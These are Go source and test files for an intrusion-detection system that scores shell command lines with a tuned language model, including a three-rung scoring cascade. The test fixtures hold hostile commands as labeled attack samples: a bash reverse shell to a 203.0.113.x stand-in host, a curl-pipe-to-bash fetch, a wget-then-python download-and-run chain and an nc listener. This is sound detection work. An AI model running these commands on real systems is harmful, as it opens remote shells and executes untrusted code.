		}
	}
	return out
}

// TestQuickBuildContextsInvariants: output is parallel to the input, every
// context ends with its own line, contains at most Window lines, and only
// lines of the same user.
func TestQuickBuildContextsInvariants(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 200,
		Values: func(values []reflect.Value, r *rand.Rand) {
			values[0] = reflect.ValueOf(genLog(r))
			values[1] = reflect.ValueOf(1 + r.Intn(4))
		},
	}
	prop := func(log []TimedLine, window int) bool {
		ctxCfg := ContextConfig{Window: window, MaxGap: 300}
		got := BuildContexts(log, ctxCfg)
		if len(got) != len(log) {
			return false
		}
		// Per-user line history for membership checking.
		seenByUser := map[string]map[string]bool{}
		for i, it := range log {
			parts := strings.Split(got[i], " ; ")
			if len(parts) > window || len(parts) == 0 {
				return false
			}
			if parts[len(parts)-1] != it.Line {
				return false
			}
			userSeen := seenByUser[it.User]
			for _, p := range parts[:len(parts)-1] {
				if !userSeen[p] {
					return false // context line never issued by this user
				}
			}
			if userSeen == nil {
				userSeen = map[string]bool{}
				seenByUser[it.User] = userSeen
			}
			userSeen[it.Line] = true
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestQuickBuildContextsWindowOne: window 1 must return the lines verbatim.
func TestQuickBuildContextsWindowOne(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 100,
		Values: func(values []reflect.Value, r *rand.Rand) {
			values[0] = reflect.ValueOf(genLog(r))
		},
	}
	prop := func(log []TimedLine) bool {
		got := BuildContexts(log, ContextConfig{Window: 1, MaxGap: 600})
		for i, it := range log {
			if got[i] != it.Line {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}
