// Package tuning implements the paper's four ways of adapting the
// pre-trained command-line language model to intrusion detection with noisy
// supervision (§IV):
//
//   - reconstruction-based tuning (§IV-A): alternate between refitting the
//     PCA projection W and tuning f(·) to maximize the share of
//     reconstruction error carried by intrusion-labeled lines (Eq. 2);
//   - classification-based tuning (§IV-B): a two-layer perceptron head on
//     the [CLS] embedding, backbone frozen;
//   - multi-line classification (§IV-C): the same head over temporally
//     contiguous command lines of one user joined with ";";
//   - retrieval-based detection (§IV-D): average similarity to the nearest
//     malicious training neighbours, no tuning at all.
//
// Every method satisfies Scorer: higher scores mean more intrusion-like.
package tuning

import (
	"fmt"

	"clmids/internal/bpe"
	"clmids/internal/model"
	"clmids/internal/tensor"
)

// Scorer scores raw command lines for intrusion likelihood.
type Scorer interface {
	// Score returns one score per line; higher = more suspicious.
	Score(lines []string) ([]float64, error)
}

// Replicable is implemented by scorers that can stamp out independent
// replicas without re-tuning: the replica shares every frozen artifact
// (backbone weights, trained head, fitted PCA / retrieval index /
// standardizer) and replicates only mutable serving state — the inference
// engine's scratch pool and LRU cache. Replicas therefore score
// byte-identically to the original while never contending on a lock, which
// is what lets a sharded streaming detector scale across cores.
type Replicable interface {
	Scorer
	// Replicate returns an independent same-scoring replica.
	Replicate() Scorer
}

// CacheStatser is implemented by scorers whose serving path runs on an
// LRU-cached inference engine; services surface the stats per shard so
// load skew and cache effectiveness stay observable.
type CacheStatser interface {
	// CacheStats snapshots the scorer's embedding-cache counters.
	CacheStats() CacheStats
}

// Replicas returns n scorers that score identically to s: s itself first,
// then n-1 replicas. It fails when n > 1 and s does not implement
// Replicable (a custom scorer with shared mutable state cannot be safely
// fanned out).
func Replicas(s Scorer, n int) ([]Scorer, error) {
	if n < 1 {
		n = 1
	}
	out := make([]Scorer, 0, n)
	out = append(out, s)
	if n == 1 {
		return out, nil
	}
	r, ok := s.(Replicable)
	if !ok {
		return nil, fmt.Errorf("tuning: scorer %T is not replicable; cannot build %d replicas", s, n)
	}
	for len(out) < n {
		out = append(out, r.Replicate())
	}
	return out, nil
}

// embedBatchSize bounds encoder forward batches during feature extraction.
const embedBatchSize = 32

// EmbedLines runs the (frozen) encoder over lines and returns mean-pooled
// embeddings, one row per line — the f(t) of Eq. (1); empty input yields a
// 0-row matrix (a streaming flush of an empty window is normal, not an
// error). Scoring goes through
// the tape-free batched inference engine (deduped, length-bucketed,
// parallel); the engine is transient, so no embedding outlives the call
// and a subsequently tuned encoder can never serve stale rows. Long-lived
// scorers over a frozen encoder should hold a NewEngine with a cache
// instead.
func EmbedLines(enc *model.Encoder, tok *bpe.Tokenizer, lines []string) (*tensor.Matrix, error) {
	cfg := DefaultEngineConfig()
	cfg.CacheLines = 0
	return NewEngine(enc, tok, cfg).EmbedLines(lines)
}

// CLSLines runs the (frozen) encoder over lines and returns the [CLS]
// hidden states — the classification head's input. Like EmbedLines it runs
// on a transient inference engine.
func CLSLines(enc *model.Encoder, tok *bpe.Tokenizer, lines []string) (*tensor.Matrix, error) {
	cfg := DefaultEngineConfig()
	cfg.CacheLines = 0
	return NewEngine(enc, tok, cfg).CLSLines(lines)
}

// EmbedLinesTape is the original autograd-tape extraction path, kept as the
// golden reference the engine is tested against and as the baseline for
// throughput benchmarks.
func EmbedLinesTape(enc *model.Encoder, tok *bpe.Tokenizer, lines []string) (*tensor.Matrix, error) {
	return extract(enc, tok, lines, func(b model.Batch) (*tensor.Tensor, error) {
		return enc.MeanPoolTensor(b, false, nil)
	})
}

// CLSLinesTape is the tape-path reference for CLSLines; see EmbedLinesTape.
func CLSLinesTape(enc *model.Encoder, tok *bpe.Tokenizer, lines []string) (*tensor.Matrix, error) {
	return extract(enc, tok, lines, func(b model.Batch) (*tensor.Tensor, error) {
		return enc.CLSTensor(b, false, nil)
	})
}

func extract(enc *model.Encoder, tok *bpe.Tokenizer, lines []string,
	fn func(model.Batch) (*tensor.Tensor, error)) (*tensor.Matrix, error) {
	cfg := enc.Config()
	// Empty input mirrors the engine path: a 0-row matrix, not an error.
	out := tensor.NewMatrix(len(lines), cfg.Hidden)
	if len(lines) == 0 {
		return out, nil
	}
	for at := 0; at < len(lines); at += embedBatchSize {
		end := at + embedBatchSize
		if end > len(lines) {
			end = len(lines)
		}
		seqs := make([][]int, 0, end-at)
		for _, line := range lines[at:end] {
			seqs = append(seqs, tok.EncodeForModel(line, cfg.MaxSeqLen))
		}
		t, err := fn(model.NewBatch(seqs))
		if err != nil {
			return nil, fmt.Errorf("tuning: embedding lines %d..%d: %w", at, end, err)
		}
		if t.Rows() != end-at {
			return nil, fmt.Errorf("tuning: batch produced %d rows for %d lines", t.Rows(), end-at)
		}
		for i := 0; i < t.Rows(); i++ {
			copy(out.Row(at+i), t.Val.Row(i))
		}
	}
	return out, nil
}

// checkSupervision validates a labeled training set and counts positives.
func checkSupervision(lines []string, labels []bool) (positives int, err error) {
	if len(lines) == 0 {
		return 0, fmt.Errorf("tuning: empty training set")
	}
	if len(lines) != len(labels) {
		return 0, fmt.Errorf("tuning: %d lines but %d labels", len(lines), len(labels))
	}
	for _, y := range labels {
		if y {
			positives++
		}
	}
	if positives == 0 {
		return 0, fmt.Errorf("tuning: supervision contains no positive labels")
	}
	if positives == len(lines) {
		return 0, fmt.Errorf("tuning: supervision contains no negative labels")
	}
	return positives, nil
}
