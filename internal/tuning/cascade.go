package tuning

// The scoring cascade (ROADMAP item 1): three rungs behind one Scorer.
//
//	rung 0  rarity pre-filter   zero model calls; clears lines whose every
//	                            unit is common (rarity ≤ ClearThreshold)
//	rung 1  int8 triage         the PR 5 low-precision engine scores what
//	                            rung 0 could not clear
//	rung 2  f64 confirm         exact re-score of lines whose triage score
//	                            lands in the escalation band (≥ EscalateLow)
//
// The thresholds are calibrated at build time (internal/core) against the
// f64 scorer's own score distribution on the fitting corpus, so the
// composed scorer's per-line deviation from f64-only stays inside the
// documented parity bounds: cleared lines deviate by at most the measured
// MaxClearDeviation, non-escalated lines by the int8 rung's parity bound,
// and escalated lines not at all.

import (
	"encoding/json"
	"fmt"
	"math"
	"sync/atomic"

	"clmids/internal/model"
)

// CascadeParams are the calibrated cascade thresholds; they ride the bundle
// manifest so a served cascade is byte-reproducible from the artifact.
type CascadeParams struct {
	// ClearThreshold is the rung-0 boundary: lines with rarity at or below
	// it are cleared without a model call. -Inf clears nothing.
	ClearThreshold float64 `json:"clear_threshold"`
	// ClearScore is the constant score assigned to cleared lines — the
	// midrange of the f64 scores the calibration corpus's cleared lines
	// received, so the substitution error is centered.
	ClearScore float64 `json:"clear_score"`
	// EscalateLow is the bottom of the escalation band: triage scores at or
	// above it are re-scored exactly on the f64 confirm rung.
	EscalateLow float64 `json:"escalate_low"`
	// MaxClearDeviation is the measured worst-case |f64 − ClearScore| over
	// the calibration corpus's cleared lines, recorded for observability.
	MaxClearDeviation float64 `json:"max_clear_deviation"`
}

// cascadeParamsWire mirrors CascadeParams on the JSON wire. ClearThreshold
// is the one field with a legal non-finite value (-Inf clears nothing),
// which a JSON number cannot carry, so it travels as the string "-inf".
type cascadeParamsWire struct {
	ClearThreshold    any     `json:"clear_threshold"`
	ClearScore        float64 `json:"clear_score"`
	EscalateLow       float64 `json:"escalate_low"`
	MaxClearDeviation float64 `json:"max_clear_deviation"`
}

// MarshalJSON encodes the params, spelling a -Inf clear threshold as the
// string "-inf" (JSON numbers cannot represent infinities).
func (p CascadeParams) MarshalJSON() ([]byte, error) {
	w := cascadeParamsWire{
		ClearThreshold:    p.ClearThreshold,
		ClearScore:        p.ClearScore,
		EscalateLow:       p.EscalateLow,
		MaxClearDeviation: p.MaxClearDeviation,
	}
	if math.IsInf(p.ClearThreshold, -1) {
		w.ClearThreshold = "-inf"
	}
	return json.Marshal(w)
}

// UnmarshalJSON decodes the params, accepting either a number or the string
// "-inf" for the clear threshold.
func (p *CascadeParams) UnmarshalJSON(data []byte) error {
	var w cascadeParamsWire
	if err := json.Unmarshal(data, &w); err != nil {
		return err
	}
	p.ClearScore, p.EscalateLow, p.MaxClearDeviation = w.ClearScore, w.EscalateLow, w.MaxClearDeviation
	switch v := w.ClearThreshold.(type) {
	case float64:
		p.ClearThreshold = v
	case string:
		if v != "-inf" {
			return fmt.Errorf("tuning: cascade clear threshold %q is neither a number nor %q", v, "-inf")
		}
		p.ClearThreshold = math.Inf(-1)
	case nil:
		return fmt.Errorf("tuning: cascade params carry no clear threshold")
	default:
		return fmt.Errorf("tuning: cascade clear threshold has unsupported JSON type %T", v)
	}
	return nil
}

// Validate rejects parameter sets no calibration could have produced.
func (p CascadeParams) Validate() error {
	if math.IsNaN(p.ClearThreshold) || math.IsInf(p.ClearThreshold, 1) {
		return fmt.Errorf("tuning: cascade clear threshold %v is not calibratable", p.ClearThreshold)
	}
	for name, v := range map[string]float64{
		"clear score": p.ClearScore, "escalation floor": p.EscalateLow, "max clear deviation": p.MaxClearDeviation,
	} {
		if math.IsNaN(v) || math.IsInf(v, 0) {
			return fmt.Errorf("tuning: cascade %s %v is not finite", name, v)
		}
	}
	return nil
}

// CascadeStats counts how much traffic each rung absorbed since the scorer
// (replica) was built. Cleared+Triaged sums to the lines scored; Escalated
// is the subset of Triaged that also paid the f64 confirm pass.
type CascadeStats struct {
	// Cleared counts lines rung 0 settled without a model call.
	Cleared int64 `json:"cleared"`
	// Triaged counts lines scored by the int8 triage rung.
	Triaged int64 `json:"triaged"`
	// Escalated counts triaged lines re-scored exactly on the f64 rung.
	Escalated int64 `json:"escalated"`
}

// CascadeStatser is implemented by scorers that expose per-rung cascade
// traffic counters; the streaming layer probes it so the split is visible
// per shard in /stats.
type CascadeStatser interface {
	// CascadeStats snapshots the per-rung traffic counters.
	CascadeStats() CascadeStats
}

// CascadeScorer composes the three rungs behind the plain Scorer interface.
// It is replicable (replicas share the immutable rarity table and frozen
// model artifacts, and carry their own engines, LRU caches, and counters),
// cache-aware (CacheStats sums both model rungs), and precision-switchable
// (the degradation ladder shifts the confirm rung, so an overloaded shard
// confirms escalations at f32/int8 instead of stalling).
type CascadeScorer struct {
	rarity  *RarityTable
	triage  Scorer
	confirm Scorer
	params  CascadeParams

	cleared   atomic.Int64
	triaged   atomic.Int64
	escalated atomic.Int64
}

// NewCascadeScorer builds a cascade from a fitted rarity table, a triage
// scorer (conventionally the int8 rung), and a confirm scorer (the f64
// rung). Both scorers must be Replicable so the cascade itself can fan out
// across shards, and both must score the same artifact — calibration and
// parity only hold when triage is a lower-precision variant of confirm.
func NewCascadeScorer(rt *RarityTable, triage, confirm Scorer, params CascadeParams) (*CascadeScorer, error) {
	if rt == nil {
		return nil, fmt.Errorf("tuning: cascade needs a rarity table")
	}
	if triage == nil || confirm == nil {
		return nil, fmt.Errorf("tuning: cascade needs both a triage and a confirm scorer")
	}
	if _, ok := triage.(Replicable); !ok {
		return nil, fmt.Errorf("tuning: cascade triage scorer %T is not replicable", triage)
	}
	if _, ok := confirm.(Replicable); !ok {
		return nil, fmt.Errorf("tuning: cascade confirm scorer %T is not replicable", confirm)
	}
	if err := params.Validate(); err != nil {
		return nil, err
	}
	return &CascadeScorer{rarity: rt, triage: triage, confirm: confirm, params: params}, nil
}

// Params returns the calibrated thresholds the cascade scores with.
func (c *CascadeScorer) Params() CascadeParams { return c.params }

// Score routes each line down the cascade: rarity-cleared lines get the
// calibrated ClearScore, the rest are batch-scored by the triage rung, and
// triage scores inside the escalation band are overwritten by an exact
// confirm-rung re-score. Output order matches input order.
func (c *CascadeScorer) Score(lines []string) ([]float64, error) {
	out := make([]float64, len(lines))
	modelIdx := make([]int, 0, len(lines))
	// Production windows are duplicate-heavy; the model rungs dedup repeated
	// lines inside a batch, so rung 0 memoizes its clear decision per call to
	// keep the same property (rarity is deterministic over the call).
	memo := make(map[string]bool, len(lines))
	for i, line := range lines {
		clear, seen := memo[line]
		if !seen {
			clear = c.rarity.Rarity(line) <= c.params.ClearThreshold
			memo[line] = clear
		}
		if clear {
			out[i] = c.params.ClearScore
		} else {
			modelIdx = append(modelIdx, i)
		}
	}
	c.cleared.Add(int64(len(lines) - len(modelIdx)))
	if len(modelIdx) == 0 {
		return out, nil
	}
	sub := make([]string, len(modelIdx))
	for j, i := range modelIdx {
		sub[j] = lines[i]
	}
	ts, err := c.triage.Score(sub)
	if err != nil {
		return nil, fmt.Errorf("tuning: cascade triage rung: %w", err)
	}
	if len(ts) != len(sub) {
		return nil, fmt.Errorf("tuning: cascade triage rung returned %d scores for %d lines", len(ts), len(sub))
	}
	c.triaged.Add(int64(len(sub)))
	escIdx := make([]int, 0, len(sub))
	for j, i := range modelIdx {
		out[i] = ts[j]
		if ts[j] >= c.params.EscalateLow {
			escIdx = append(escIdx, i)
		}
	}
	if len(escIdx) == 0 {
		return out, nil
	}
	esc := make([]string, len(escIdx))
	for j, i := range escIdx {
		esc[j] = lines[i]
	}
	fs, err := c.confirm.Score(esc)
	if err != nil {
		return nil, fmt.Errorf("tuning: cascade confirm rung: %w", err)
	}
	if len(fs) != len(esc) {
		return nil, fmt.Errorf("tuning: cascade confirm rung returned %d scores for %d lines", len(fs), len(esc))
	}
	c.escalated.Add(int64(len(esc)))
	for j, i := range escIdx {
		out[i] = fs[j]
	}
	return out, nil
}

// CascadeStats snapshots the per-rung traffic counters of this replica.
func (c *CascadeScorer) CascadeStats() CascadeStats {
	return CascadeStats{
		Cleared:   c.cleared.Load(),
		Triaged:   c.triaged.Load(),
		Escalated: c.escalated.Load(),
	}
}

// Replicate returns an independent same-scoring cascade: the rarity table
// and params are shared (immutable), both model rungs are replicated
// (shared frozen artifacts, fresh engine scratch and LRU), and the traffic
// counters start at zero.
func (c *CascadeScorer) Replicate() Scorer {
	// Constructor-checked: both rungs are Replicable.
	return &CascadeScorer{
		rarity:  c.rarity,
		triage:  c.triage.(Replicable).Replicate(),
		confirm: c.confirm.(Replicable).Replicate(),
		params:  c.params,
	}
}

// CacheStats sums the embedding-cache counters of every rung that serves
// from an LRU-cached engine.
func (c *CascadeScorer) CacheStats() CacheStats {
	var out CacheStats
	for _, s := range []Scorer{c.triage, c.confirm} {
		if cs, ok := s.(CacheStatser); ok {
			st := cs.CacheStats()
			out.Hits += st.Hits
			out.Misses += st.Misses
			out.Entries += st.Entries
			out.EncodedHits += st.EncodedHits
			out.EncodedMisses += st.EncodedMisses
			out.EncodedEntries += st.EncodedEntries
		}
	}
	return out
}

// Precision reports the confirm rung's serving precision — the rung that
// defines the cascade's accuracy contract. The triage rung is pinned at its
// own (low) precision by construction.
func (c *CascadeScorer) Precision() model.Precision {
	if p, ok := ScorerPrecision(c.confirm); ok {
		return p
	}
	return model.PrecisionFloat64
}

// AtPrecision returns an independent cascade whose confirm rung serves at
// precision p while the triage rung and thresholds are unchanged — the
// degradation lever the streaming layer's overload policy pulls. Degrading
// a cascade therefore cheapens only the escalation band; rung-0 clears and
// int8 triage already cost as little as the ladder allows.
func (c *CascadeScorer) AtPrecision(p model.Precision) (Scorer, error) {
	if !p.Valid() {
		return nil, fmt.Errorf("tuning: unknown precision %q", p)
	}
	confirm, err := AtPrecision(c.confirm, p)
	if err != nil {
		return nil, fmt.Errorf("tuning: cascade confirm rung: %w", err)
	}
	triage := c.triage.(Replicable).Replicate()
	return NewCascadeScorer(c.rarity, triage, confirm, c.params)
}
