package tuning

import (
	"fmt"
	"math/rand"
	"reflect"
	"sync"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/metrics"
	"clmids/internal/model"
	"clmids/internal/pretrain"
)

// fixture is a small pre-trained encoder over a synthetic two-dialect
// corpus, shared by the method tests (building it costs a few seconds).
type fixture struct {
	tok      *bpe.Tokenizer
	mdl      *model.Model
	trainX   []string
	trainY   []bool
	testPos  []string
	testNeg  []string
	snapshot []byte
}

var (
	fixOnce sync.Once
	fix     *fixture
	fixErr  error
)

func benignPool(r *rand.Rand) string {
	forms := []string{
		"ls -la /srv/data",
		"cat /var/log/syslog",
		"grep -i error /var/log/app.log",
		"docker ps -a",
		"df -h",
		"ps aux",
		"cd /srv/deploy",
		"echo done",
		"tail -n 50 /var/log/nginx.log",
		"git status",
	}
	return forms[r.Intn(len(forms))]
}

func maliciousPool(r *rand.Rand) string {
	forms := []string{
		fmt.Sprintf("nc -lvnp %d", 4000+r.Intn(5000)),
		fmt.Sprintf("bash -i >& /dev/tcp/203.0.113.%d/4444 0>&1", 1+r.Intn(250)),
		fmt.Sprintf("masscan 203.0.113.%d -p 0-65535 --rate=1000 >> tmp.txt", 1+r.Intn(250)),
		fmt.Sprintf("curl http://203.0.113.%d/x.sh | bash", 1+r.Intn(250)),
	}
	return forms[r.Intn(len(forms))]
}

func buildFixture() (*fixture, error) {
	r := rand.New(rand.NewSource(11))
	var lines []string
	var labels []bool
	for i := 0; i < 260; i++ {
		lines = append(lines, benignPool(r))
		labels = append(labels, false)
	}
	for i := 0; i < 40; i++ {
		lines = append(lines, maliciousPool(r))
		labels = append(labels, true)
	}
	// Multi-line style inputs (joined with the shell separator) are part of
	// the pre-training distribution, as the multi-line classifier encodes
	// such concatenations with the same backbone.
	pretrainLines := append([]string(nil), lines...)
	for i := 0; i < 80; i++ {
		pretrainLines = append(pretrainLines, benignPool(r)+" ; "+benignPool(r))
		if i%4 == 0 {
			pretrainLines = append(pretrainLines,
				fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python ; python", 1+r.Intn(250)))
			pretrainLines = append(pretrainLines,
				fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz ; tar -xzf pkg.tar.gz", i))
		}
	}

	tok, err := bpe.Train(pretrainLines, bpe.TrainConfig{VocabSize: 450})
	if err != nil {
		return nil, err
	}
	cfg := model.Config{
		VocabSize: tok.VocabSize(), MaxSeqLen: 32, Hidden: 32, Layers: 1,
		Heads: 2, FFN: 64, LayerNormEps: 1e-5, Dropout: 0.0,
	}
	m, err := model.NewModel(cfg, r)
	if err != nil {
		return nil, err
	}
	seqs := make([][]int, len(pretrainLines))
	for i, l := range pretrainLines {
		seqs[i] = tok.EncodeForModel(l, cfg.MaxSeqLen)
	}
	pc := pretrain.DefaultConfig()
	pc.Epochs = 2
	pc.BatchSize = 16
	pc.LR = 1e-3
	if _, err := pretrain.Run(m, seqs, pc); err != nil {
		return nil, err
	}

	f := &fixture{tok: tok, mdl: m, trainX: lines, trainY: labels}
	for i := 0; i < 20; i++ {
		f.testPos = append(f.testPos, maliciousPool(r))
		f.testNeg = append(f.testNeg, benignPool(r))
	}
	return f, nil
}

func getFixture(t *testing.T) *fixture {
	t.Helper()
	fixOnce.Do(func() { fix, fixErr = buildFixture() })
	if fixErr != nil {
		t.Fatalf("fixture: %v", fixErr)
	}
	return fix
}

// meanScore averages a scorer over lines.
func meanScore(t *testing.T, s Scorer, lines []string) float64 {
	t.Helper()
	scores, err := s.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	sum := 0.0
	for _, v := range scores {
		sum += v
	}
	return sum / float64(len(scores))
}

func TestClassifierSeparates(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	cfg.Epochs = 8
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	pos := meanScore(t, clf, f.testPos)
	neg := meanScore(t, clf, f.testNeg)
	if pos <= neg+0.2 {
		t.Fatalf("classifier does not separate: pos %.3f vs neg %.3f", pos, neg)
	}
	// Scores are probabilities.
	scores, err := clf.Score(f.testPos)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range scores {
		if s < 0 || s > 1 {
			t.Fatalf("score %v outside [0,1]", s)
		}
	}
}

func TestClassifierSupervisionErrors(t *testing.T) {
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, nil, nil, cfg); err == nil {
		t.Error("empty set accepted")
	}
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY[:3], cfg); err == nil {
		t.Error("length mismatch accepted")
	}
	allNeg := make([]bool, len(f.trainX))
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, allNeg, cfg); err == nil {
		t.Error("no positives accepted")
	}
	allPos := make([]bool, len(f.trainX))
	for i := range allPos {
		allPos[i] = true
	}
	if _, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, allPos, cfg); err == nil {
		t.Error("no negatives accepted")
	}
}

func TestRetrievalScorerSeparates(t *testing.T) {
	f := getFixture(t)
	ret, err := TrainRetrieval(f.mdl.Encoder, f.tok, f.trainX, f.trainY, 1)
	if err != nil {
		t.Fatal(err)
	}
	pos := meanScore(t, ret, f.testPos)
	neg := meanScore(t, ret, f.testNeg)
	if pos <= neg {
		t.Fatalf("retrieval does not separate: pos %.4f vs neg %.4f", pos, neg)
	}
	if ret.Retrieval() == nil {
		t.Error("Retrieval() nil")
	}
}

func TestReconstructionTuningSeparates(t *testing.T) {
	f := getFixture(t)
	// Clone the model so other tests keep the shared pre-trained weights.
	clone := cloneModel(t, f.mdl)
	cfg := DefaultReconsConfig()
	cfg.Rounds = 3
	cfg.LR = 5e-4
	tuner, err := TrainReconstruction(clone.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	// In-box (training-distribution) attacks must show far higher
	// reconstruction error than benign lines — the paper's "very high
	// scores for all in-box intrusions".
	pos := meanScore(t, tuner, f.testPos)
	neg := meanScore(t, tuner, f.testNeg)
	if pos <= 2*neg {
		t.Fatalf("reconstruction tuning too weak: pos %.5f vs neg %.5f", pos, neg)
	}
	if tuner.PCA() == nil {
		t.Error("PCA() nil")
	}
}

func cloneModel(t *testing.T, m *model.Model) *model.Model {
	t.Helper()
	var buf writerBuffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	clone, err := model.Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	return clone
}

// writerBuffer is a minimal in-memory io.ReadWriter.
type writerBuffer struct {
	data []byte
	off  int
}

func (b *writerBuffer) Write(p []byte) (int, error) {
	b.data = append(b.data, p...)
	return len(p), nil
}

func (b *writerBuffer) Read(p []byte) (int, error) {
	if b.off >= len(b.data) {
		return 0, errEOF
	}
	n := copy(p, b.data[b.off:])
	b.off += n
	return n, nil
}

var errEOF = fmt.Errorf("EOF")

func TestBuildContexts(t *testing.T) {
	items := []TimedLine{
		{User: "a", Time: 100, Line: "whoami"},
		{User: "b", Time: 101, Line: "ls"},
		{User: "a", Time: 110, Line: "wget -c http://x/p -o python"},
		{User: "a", Time: 115, Line: "python"},
		{User: "a", Time: 9000, Line: "df -h"}, // far later: no context
	}
	got := BuildContexts(items, DefaultContextConfig())
	want := []string{
		"whoami",
		"ls",
		"whoami ; wget -c http://x/p -o python",
		"whoami ; wget -c http://x/p -o python ; python",
		"df -h",
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("BuildContexts:\n got %q\nwant %q", got, want)
	}
}

func TestBuildContextsWindow(t *testing.T) {
	items := make([]TimedLine, 6)
	for i := range items {
		items[i] = TimedLine{User: "u", Time: int64(i), Line: fmt.Sprintf("cmd%d", i)}
	}
	got := BuildContexts(items, ContextConfig{Window: 2, MaxGap: 100})
	if got[5] != "cmd4 ; cmd5" {
		t.Fatalf("window 2 context = %q", got[5])
	}
	got = BuildContexts(items, ContextConfig{Window: 3, MaxGap: 100})
	if got[5] != "cmd3 ; cmd4 ; cmd5" {
		t.Fatalf("window 3 context = %q", got[5])
	}
}

func TestBuildContextsGapBreaksChain(t *testing.T) {
	items := []TimedLine{
		{User: "u", Time: 0, Line: "a"},
		{User: "u", Time: 50, Line: "b"},
		{User: "u", Time: 1000, Line: "c"}, // gap to b exceeds MaxGap
	}
	got := BuildContexts(items, ContextConfig{Window: 3, MaxGap: 100})
	if got[2] != "c" {
		t.Fatalf("gap did not break context: %q", got[2])
	}
}

func TestMultiLineClassifierCatchesChains(t *testing.T) {
	f := getFixture(t)
	// Build a training log where "wget ... -o python" followed by "python"
	// is the attack chain; in isolation each line is common and benign.
	r := rand.New(rand.NewSource(21))
	var items []TimedLine
	var labels []bool
	clock := int64(0)
	user := 0
	add := func(line string, y bool) {
		clock += 5
		items = append(items, TimedLine{User: fmt.Sprintf("u%d", user), Time: clock, Line: line})
		labels = append(labels, y)
	}
	for i := 0; i < 150; i++ {
		user = i % 9
		switch i % 5 {
		case 0:
			add(benignPool(r), false)
			add("python", false) // benign interpreter use in benign context
		case 1:
			add(fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz", i), false)
			add("tar -xzf pkg.tar.gz", false)
		case 2: // the attack chain
			add(fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python", 1+r.Intn(250)), true)
			add("python", true)
		default:
			add(benignPool(r), false)
		}
	}
	contexts := BuildContexts(items, DefaultContextConfig())
	cfg := DefaultClassifierConfig()
	cfg.Epochs = 10
	cfg.Seed = 5
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, contexts, labels, cfg)
	if err != nil {
		t.Fatal(err)
	}
	var chains, benigns []string
	for i := 0; i < 8; i++ {
		chains = append(chains,
			fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python ; python", 3+7*i))
		benigns = append(benigns,
			benignPool(rand.New(rand.NewSource(int64(i))))+" ; python")
	}
	if pos, neg := meanScore(t, clf, chains), meanScore(t, clf, benigns); pos <= neg {
		t.Fatalf("multi-line classifier missed the chain: attack %.3f vs benign %.3f", pos, neg)
	}
}

func TestEmbedAndCLSShapes(t *testing.T) {
	f := getFixture(t)
	lines := []string{"ls -la", "nc -lvnp 4444"}
	emb, err := EmbedLines(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	if emb.Rows != 2 || emb.Cols != f.mdl.Encoder.Config().Hidden {
		t.Fatalf("EmbedLines %dx%d", emb.Rows, emb.Cols)
	}
	cls, err := CLSLines(f.mdl.Encoder, f.tok, lines)
	if err != nil {
		t.Fatal(err)
	}
	if cls.Rows != 2 || cls.Cols != emb.Cols {
		t.Fatalf("CLSLines %dx%d", cls.Rows, cls.Cols)
	}
	// Empty input is a 0-row matrix, aligned with the engine's streaming
	// contract (an empty window flush is not an error).
	empty, err := EmbedLines(f.mdl.Encoder, f.tok, nil)
	if err != nil {
		t.Fatalf("empty lines: %v", err)
	}
	if empty.Rows != 0 || empty.Cols != emb.Cols {
		t.Fatalf("empty EmbedLines %dx%d", empty.Rows, empty.Cols)
	}
	if empty, err = CLSLines(f.mdl.Encoder, f.tok, nil); err != nil || empty.Rows != 0 {
		t.Fatalf("empty CLSLines: %v (%d rows)", err, empty.Rows)
	}
}

func TestMethodsProduceUsableMetrics(t *testing.T) {
	// End-to-end smoke: classification scores must plug into the metrics
	// protocol and beat chance on ROC.
	f := getFixture(t)
	cfg := DefaultClassifierConfig()
	cfg.Epochs = 6
	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, f.trainX, f.trainY, cfg)
	if err != nil {
		t.Fatal(err)
	}
	var items []metrics.Scored
	for i, line := range append(append([]string{}, f.testPos...), f.testNeg...) {
		s, err := clf.Score([]string{line})
		if err != nil {
			t.Fatal(err)
		}
		items = append(items, metrics.Scored{
			Line:          fmt.Sprintf("%d-%s", i, line),
			Score:         s[0],
			TrueIntrusion: i < len(f.testPos),
			IDSFlagged:    i < 5, // pretend the first few are in-box
		})
	}
	auc, err := metrics.ROCAUC(items)
	if err != nil {
		t.Fatal(err)
	}
	if auc < 0.8 {
		t.Fatalf("classifier AUC %.3f too low", auc)
	}
}
