package tuning

import "strings"

// TimedLine is one logged command line with the session context needed to
// build multi-line inputs.
type TimedLine struct {
	User string
	Time int64
	Line string
}

// ContextConfig controls multi-line input construction (§IV-C).
type ContextConfig struct {
	// Window is the number of temporally contiguous lines (including the
	// current one) concatenated per input. The paper uses 3.
	Window int
	// MaxGap is the largest allowed gap in seconds between consecutive
	// lines; earlier lines "whose execution time is too long ago" are not
	// attached. Default 600 (10 minutes).
	MaxGap int64
}

// DefaultContextConfig matches the paper: three contiguous lines.
func DefaultContextConfig() ContextConfig {
